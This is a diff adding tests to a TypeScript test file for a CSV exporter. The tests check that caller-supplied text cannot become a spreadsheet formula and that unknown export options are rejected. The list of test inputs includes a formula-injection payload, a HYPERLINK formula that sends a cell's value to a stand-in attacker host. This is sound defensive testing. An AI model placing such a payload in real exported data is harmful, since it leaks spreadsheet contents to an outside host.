@@ -49,3 +49,36 @@ it('exports events as CSV with quoted cells and a column for each quantity and d
   const plain = (await text(eventsToCsv(ledger.events({})))).split('\r\n');
   expect(plain[0]).toMatch(/,quantities\.requests$/);
 });
+
+it('lets no text that a caller chose be a formula of a spreadsheet', async () => {
+  const formulas = ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', '＝1', '=HYPERLINK("http://evil/?"&A1,"x")'];
+  const ledger = await ledgerOf(
+    ...formulas.map((text, index) =>
+      usageEvent({
+        seq: index + 1,
+        tenant: text,
+        dimensions: { note: text, delta: -1 },
+        quantities: { tokens: { value: -5, basis: 'reported' } },
+      }),
+    ),
+  );
+  const columns = { quantities: ['tokens'], dimensions: ['note', 'delta'] };
+  const lines = (await text(eventsToCsv(ledger.events({}), columns))).split('\r\n').slice(1, -1);
+  expect(lines.length).toBe(formulas.length);
+  for (const [index, line] of lines.entries()) {
+    const formula = formulas[index] as string;
+    const escaped = /[",\r]/.test(formula) ? `"'${formula.replaceAll('"', '""')}"` : `'${formula}`;
+    expect(line).toContain(`,k1,${escaped},`);
+    // Numbers stay numbers.
+    expect(line.endsWith(`,-5,${escaped},-1`)).toBe(true);
+  }
+  const kept = await text(eventsToCsv(ledger.events({}), { ...columns, formulas: 'dangerouslyKeep' }));
+  expect(kept.split('\r\n')[1]).toContain(',k1,=1+1,');
+});
+
+it('refuses CSV options that it does not know', async () => {
+  const bad = { formula: 'dangerouslyKeep', quantities: 'tokens', formulas: 'keep' } as never;
+  await expect(text(eventsToCsv(memoryLedger().events({}), bad))).rejects.toThrow(
+    /^eventsToCsv: unknown option "formula" \(did you mean "formulas"\?\); quantities must be an array of names; formulas must be/,
+  );
+});
